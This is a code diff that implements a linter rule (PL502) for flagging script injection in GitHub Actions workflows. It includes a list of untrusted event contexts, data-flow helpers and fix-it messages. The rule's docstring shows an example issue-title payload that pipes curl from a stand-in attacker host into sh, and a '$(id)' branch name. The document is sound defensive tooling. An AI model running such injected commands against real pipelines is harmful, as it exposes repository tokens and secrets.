@@ -1,16 +1,470 @@
-"""PL502 script-injection: NOT IMPLEMENTED YET (placeholder so the registry loads)."""
+"""PL502 script-injection.
 
-from pipelint.diagnostics import Severity
+Also home of the small expression data-flow helpers that PL503 (secret-in-script) and
+PL505 (untrusted-checkout) share: which contexts of a ``${{ }}`` expression can end up
+in its value, and the scripts (sinks) of GitHub steps.
+"""
+
+from __future__ import annotations
+
+from typing import Iterator
+
+from pipelint.diagnostics import Related, Severity
 from pipelint.rule import Rule
+from pipelint.yamltree import Mapping, Scalar
+
+#: Contexts whose text whoever opens an issue, pull request, comment, review, discussion
+#: or commit chooses freely (GitHub Security Lab's "untrusted input" list, GitHub's
+#: script-injection docs, plus the same fields of workflow_run and discussion events).
+#: Lower-case dotted paths; ``*`` is any array element. Identifiers that GitHub restricts
+#: to a safe alphabet (logins, repository names, SHAs, numbers) are not listed.
+UNTRUSTED = (
+    "github.head_ref",
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.pull_request.head.repo.description",
+    "github.event.pull_request.head.repo.homepage",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.changes.title.from",
+    "github.event.changes.body.from",
+    "github.event.pages.*.page_name",
+    "github.event.pages.*.title",
+    "github.event.pages.*.summary",
+    "github.event.commits.*.message",
+    "github.event.commits.*.author.name",
+    "github.event.commits.*.author.email",
+    "github.event.commits.*.committer.name",
+    "github.event.commits.*.committer.email",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.name",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.committer.name",
+    "github.event.head_commit.committer.email",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.display_title",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.committer.name",
+    "github.event.workflow_run.head_commit.committer.email",
+    "github.event.workflow_run.head_repository.description",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+)
+
+_UNTRUSTED_SEGMENTS = tuple(tuple(p.split(".")) for p in UNTRUSTED)
+
+#: Functions whose result is a boolean or a hash: their arguments never reach the text.
+_OPAQUE_FUNCTIONS = frozenset(
+    {"contains", "startswith", "endswith", "hashfiles", "success", "always", "cancelled", "failure"}
+)
+
+
+# --------------------------------------------------------------------------- data flow
+
+
+def _segment_name(seg) -> str:
+    """A path segment: its name, ``*`` for a star filter or a literal number index, and
+    ``?`` for an index computed at run time (which key it picks is not known)."""
+    from pipelint.expressions.github import Index, Literal, Property
+
+    if isinstance(seg, Property):
+        return seg.name.lower()
+    if isinstance(seg, Index):
+        if isinstance(seg.index, Literal):
+            value = seg.index.value
+            return value.lower() if isinstance(value, str) else "*"
+        return "?"
+    return "*"
+
+
+def context_path(node) -> str:
+    """The normalised path of one Context node (see :func:`_segment_name`)."""
+    return ".".join([node.name.lower(), *(_segment_name(s) for s in node.segments)])
+
+
+def flowing_paths(expr) -> list[tuple[str, int, int]]:
+    """The contexts whose value can become (part of) the value of ``expr``.
+
+    ``(path, start, end)`` with the path normalised like ``context_paths`` (lower case,
+    ``*`` for star filters and number indexes) except that an index computed at run time
+    is ``?``; offsets are relative to the parsed text.
+    Comparisons, ``!`` and boolean functions (``contains``...) yield true/false, so what
+    they read does not flow; ``a && b`` yields ``a`` only when ``a`` is falsy (an empty
+    string at most), so only ``b`` flows; ``a || b`` may yield either; ``case()`` yields
+    its values, not its conditions; any other function passes its arguments through.
+    Segments read from a computed value (``fromJSON(x).y``) extend the paths of ``x``.
+    """
+    from pipelint.expressions.github import Access, Binary, Call, Context, Group
+
+    out: list[tuple[str, int, int]] = []
+
+    def visit(node, suffix: tuple[str, ...], span: tuple[int, int] | None) -> None:
+        if isinstance(node, Context):
+            path = context_path(node)
+            if suffix:
+                path = ".".join((path, *suffix))
+            start, end = span if span else (node.start, node.end)
+            out.append((path, start, end))
+        elif isinstance(node, Group):
+            visit(node.expr, suffix, span or (node.start, node.end))
+        elif isinstance(node, Access):
+            names = tuple(_segment_name(s) for s in node.segments)
+            visit(node.target, names + suffix, span or (node.start, node.end))
+        elif isinstance(node, Binary):
+            if node.op == "||":
+                visit(node.left, suffix, span)
+                visit(node.right, suffix, span)
+            elif node.op == "&&":
+                visit(node.right, suffix, span)
+        elif isinstance(node, Call):
+            name = node.name.lower()
+            if name in _OPAQUE_FUNCTIONS:
+                return
+            args = node.args
+            if name == "case":
+                args = tuple(args[i] for i in range(1, len(args) - 1, 2)) + args[-1:]
+            for arg in args:
+                visit(arg, suffix, span)
+        # Literal and Unary ('!' gives a boolean) carry no text.
+
+    visit(expr, (), None)
+    out.sort(key=lambda item: item[1])
+    return out
+
+
+def _segments_match(path: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
+    # A star filter reads every property; a computed index ("?") reads one unknown key,
+    # which matters only where the pattern itself accepts any key (array elements). Both
+    # at once (``github.event.*[inputs.x]``) say too little to report.
+    guessed = False
+    for p, q in zip(path, pattern):
+        if p == q or q == "*":
+            continue
+        if p != "*":
+            return False
+        guessed = True
+    return not (guessed and "?" in path)
+
+
+def is_untrusted(path: str) -> bool:
+    """``path`` reads attacker-controlled text, or an object or array that contains it.
+
+    ``github.event.issue.title`` itself, anything below it, and ``github.event``,
+    ``github.event.issue`` or ``github`` as a whole (``toJSON(github.event)``).
+    """
+    parts = tuple(path.split("."))
+    return any(_segments_match(parts, pattern) for pattern in _UNTRUSTED_SEGMENTS)
+
+
+def reads_value(path: str) -> bool:
+    """``path`` is an untrusted field itself (or below one), not an object holding one."""
+    parts = tuple(path.split("."))
+    return any(len(parts) >= len(q) and _segments_match(parts, q) for q in _UNTRUSTED_SEGMENTS)
+
+
+def parse_embedded(text: str):
+    """``(Embedded, parsed expression)`` for each well-formed ``${{ }}`` in ``text``."""
+    from pipelint.expressions.github import ExpressionError, find_expressions, parse
+
+    if "${{" not in text:
+        return
+    for emb in find_expressions(text):
+        if emb.end is None:
+            continue
+        try:
+            expr = parse(emb.inner)
+        except ExpressionError:
+            continue  # PL004 reports it
+        yield emb, expr
+
+
+# --------------------------------------------------------------------------- sinks
+
+
+class Sink:
+    """Code that GitHub runs after substituting its ``${{ }}``: a ``run:`` or a script input."""
+
+    __slots__ = ("step", "node", "language", "logical_path", "where")
+
+    def __init__(self, step, node: Scalar, language: str, logical_path: str, where: str):
+        self.step = step
+        self.node = node
+        self.language = language
+        self.logical_path = logical_path
+        self.where = where
+
+
+def step_prefix(step) -> str:
+    if step.job is not None:
+        return f"jobs.{step.job.id}.steps[{step.index}]"
+    return f"runs.steps[{step.index}]"
+
+
+def step_label(step) -> str:
+    """``step.label`` without the ref of ``uses:`` (a 40-hex SHA says nothing here)."""
+    if step.name or step.id or step.uses is None:
+        label = step.label
+    else:
+        label = f"step {step.index + 1} ({step.uses.name if step.uses.kind == 'repository' else step.uses.raw})"
+    if len(label) > 70:
+        label = f"step {step.index + 1}"
+    return label
+
+
+def step_where(step) -> str:
+    if step.job is not None:
+        return f"{step_label(step)} of {step.job.label}"
+    return f"{step_label(step)} of this action"
+
+
+def all_steps(parsed) -> Iterator:
+    if parsed.pipeline is not None and parsed.pipeline.platform == "github":
+        for job in parsed.pipeline.jobs.values():
+            yield from job.steps
+    if parsed.action is not None and parsed.platform == "github":
+        yield from parsed.action.steps
+
+
+def is_github_script(step) -> bool:
+    uses = step.uses
+    return (
+        uses is not None
+        and uses.kind == "repository"
+        and uses.owner.lower() == "actions"
+        and uses.repo.lower() == "github-script"
+        and not uses.path
+    )
+
+
+def script_sinks(parsed, *, github_script: bool = True) -> Iterator[Sink]:
+    for step in all_steps(parsed):
+        if step.script is not None:
+            yield Sink(step, step.script.node, step.script.language, f"{step_prefix(step)}.run", step_where(step))
+        elif github_script and is_github_script(step) and isinstance(step.inputs, Mapping):
+            script = step.inputs.get("script")
+            if isinstance(script, Scalar):
+                yield Sink(step, script, "javascript", f"{step_prefix(step)}.with.script", step_where(step))
+
+
+def env_lookup(step, name: str) -> tuple[str, Scalar] | None:
+    """The ``env:`` entry that ``${{ env.NAME }}`` reads in ``step`` (step, job, then
+    workflow level): its key as written and its value. Context names ignore case."""
+    scopes = [step.env]
+    if step.job is not None:
+        scopes += [step.job.env, step.job.pipeline.env]
+    for scope in scopes:
+        if isinstance(scope, Mapping):
+            for key, _key_node, value in scope.items():
+                if key.lower() == name:
+                    return (key, value) if isinstance(value, Scalar) else None
+    return None
+
+
+class EnvSource:
+    """``${{ env.NAME }}`` whose ``env:`` value expands contexts a rule looks for."""
+
+    __slots__ = ("name", "value", "paths", "written")
+
+    def __init__(self, name: str, value: Scalar, paths: list[str], written: list[str]):
+        self.name = name
+        self.value = value
+        #: Normalised paths, and the same expressions as written in the value.
+        self.paths = paths
+        self.written = written
+
+
+def env_source(step, path: str, predicate) -> EnvSource | None:
+    """For ``env.NAME``: the paths matching ``predicate`` that its ``env:`` value expands."""
+    if not path.startswith("env.") or path.count(".") != 1:
+        return None
+    entry = env_lookup(step, path[4:])
+    if entry is None:
+        return None
+    key, value = entry
+    found: list[str] = []
+    written: list[str] = []
+    for emb, expr in parse_embedded(value.value):
+        for inner, start, end in flowing_paths(expr):
+            if predicate(inner) and inner not in found:
+                found.append(inner)
+                written.append(" ".join(emb.inner[start:end].split()))
+    return EnvSource(key, value, found, written) if found else None
+
+
+def variable_reference(name: str, language: str) -> str:
+    """How a script reads the environment variable ``name``."""
+    return {
+        "pwsh": f"$env:{name}",
+        "cmd": f"%{name}%",
+        "python": f"os.environ['{name}']",
+        "javascript": f"process.env.{name}",
+    }.get(language, f'"${name}"')
+
+
+# --------------------------------------------------------------------------- the rule
+
+#: Who chooses the text, by the event object it comes from.
+_AUTHORS = (
+    ("github.head_ref", "a pull request author"),
+    ("github.event.pull_request", "a pull request author"),
+    ("github.event.issue", "an issue author"),
+    ("github.event.comment", "a commenter"),
+    ("github.event.review_comment", "a reviewer"),
+    ("github.event.review", "a reviewer"),
+    ("github.event.discussion", "a discussion author"),
+    ("github.event.pages", "a wiki editor"),
+    ("github.event.commits", "a commit author"),
+    ("github.event.head_commit", "a commit author"),
+    ("github.event.workflow_run", "the author of the triggering branch"),
+)
+
+_MAX_MESSAGE = 200
+
+
+def _author(path: str) -> str:
+    for prefix, who in _AUTHORS:
+        if path == prefix or path.startswith(prefix + "."):
+            return who
+    return "an outside contributor"
+
+
+def _variable_name(path: str) -> str:
+    parts = [p for p in path.split(".") if p not in ("github", "event", "*")]
+    if not parts:
+        return "EVENT_JSON"
+    words = parts[-2:] if len(parts) >= 2 else parts
+    if words[0] == "pull_request":
+        words[0] = "pr"
+    return "_".join(words).upper().replace("-", "_")
 
 
 class ScriptInjection(Rule):
-    """Placeholder: being written."""
+    """## What it does
+    Reports a `${{ }}` expression that expands attacker-controlled text straight into
+    code GitHub runs: the `run:` script of a step (of a workflow or a composite action) or
+    the `script:` of `actions/github-script`. Attacker-controlled means text that anyone
+    who opens an issue, pull request, review, comment or discussion, or who authors a
+    commit or names a branch, chooses: `github.event.issue.title` and `.body`,
+    `github.event.pull_request.title`, `.body`, `.head.ref`, `.head.label`,
+    `github.head_ref`, `github.event.comment.body`, `github.event.review.body`,
+    `github.event.commits.*.message` and `.author.*`, `github.event.head_commit.*`,
+    `github.event.workflow_run.head_branch`, `.display_title`, `.head_commit.*`,
+    `github.event.discussion.title`/`.body`, `github.event.pages.*.page_name`, and objects
+    holding them (`toJSON(github.event)`). It follows the value: a comparison or
+    `contains()` of such a context yields only true or false and is not reported, while
+    `format()`, `join()`, `toJSON()` and `a || b` pass it through. An `env.NAME` whose
+    `env:` value is set from such a context and then expanded with `${{ env.NAME }}` is
+    reported too.
+
+    ## Why is this bad?
+    GitHub substitutes `${{ }}` into the script text before the shell (or Node.js) reads
+    it, so an issue titled `"; curl https://evil.example/x | sh; #` or a branch named
+    `$(id)` becomes part of the program and runs with the job's token and secrets. With
+    `pull_request_target`, `issue_comment` or `workflow_run` the job has write access and
+    secrets even when the text comes from a fork.
+
+    Passing the value through `env:` is the safe pattern: the shell then reads a variable
+    and never parses its content as code, so `env:` values are not reported.
+
+    ## Example
+    ```yaml
+    on:
+      issues:
+        types: [opened]
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - run: |
+              echo "New issue: ${{ github.event.issue.title }}"
+    ```
+
+    ## Use instead
+    ```yaml
+    on:
+      issues:
+        types: [opened]
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - env:
+              ISSUE_TITLE: ${{ github.event.issue.title }}
+            run: |
+              echo "New issue: $ISSUE_TITLE"
+    ```
+    """
 
     code = "PL502"
     name = "script-injection"
     severity = Severity.ERROR
     platforms = ("github",)
+    tags = ("security", "injection")
+    precision = "high"
 
     def check(self, ctx):
-        return ()
+        parsed = ctx.file
+        file = parsed.file
+        seen: set[tuple[int, int]] = set()  # YAML aliases share one node between steps
+        for sink in script_sinks(parsed):
+            text = sink.node.value
+            if not isinstance(text, str):
+                continue
+            for emb, expr in parse_embedded(text):
+                if (sink.node.start_index, emb.start) in seen:
+                    continue
+                direct: list[str] = []
+                via_env: list[EnvSource] = []
+                for path, _start, _end in flowing_paths(expr):
+                    if is_untrusted(path):
+                        if path not in direct:
+                            direct.append(path)
+                        continue
+                    source = env_source(sink.step, path, is_untrusted)
+                    if source is not None:
+                        via_env.append(source)
+                if not direct and not via_env:
+                    continue
+                seen.add((sink.node.start_index, emb.start))
+                span = file.scalar_span(sink.node, emb.start, emb.end)
+                related = ()
+                if direct:
+                    message = self._message(sink, direct)
+                else:
+                    source = via_env[0]
+                    message = self._env_message(sink, source)
+                    related = (Related(file.node_span(source.value), f"env.{source.name} is set from {source.paths[0]} here"),)
+                yield self.diagnostic(span, message, related=related, logical_path=sink.logical_path)
+
+    def _message(self, sink: Sink, paths: list[str]) -> str:
+        first = paths[0]
+        shown = first if len(paths) == 1 else f"{first} (and {len(paths) - 1} more)"
+        who = _author(first)
+        what = f"which {who} sets" if reads_value(first) else f"which holds text {who} sets"
+        fix = f"pass it via env: and use {variable_reference(_variable_name(first), sink.language)}"
+        message = f"{sink.where} expands {shown}, {what}, into its script, so they can inject code; {fix}"
+        if len(message) > _MAX_MESSAGE:
+            message = f"{sink.where} expands {shown}, set by {who}, into its script: code injection; {fix}"
+        if len(message) > _MAX_MESSAGE:
+            message = f"{step_label(sink.step)} expands {first} into its script: code injection; {fix}"
+        return message
+
+    def _env_message(self, sink: Sink, source: EnvSource) -> str:
+        use = variable_reference(source.name, sink.language)
+        expr = f"${{{{ env.{source.name} }}}}"
+        message = (
+            f"{sink.where} expands {expr}, set from {source.paths[0]}, into its script, "
+            f"which undoes the env: indirection; use {use} instead"
+        )
+        if len(message) > _MAX_MESSAGE:
+            message = f"{step_label(sink.step)} expands {expr} (from {source.paths[0]}) into its script; use {use} instead"
+        return message
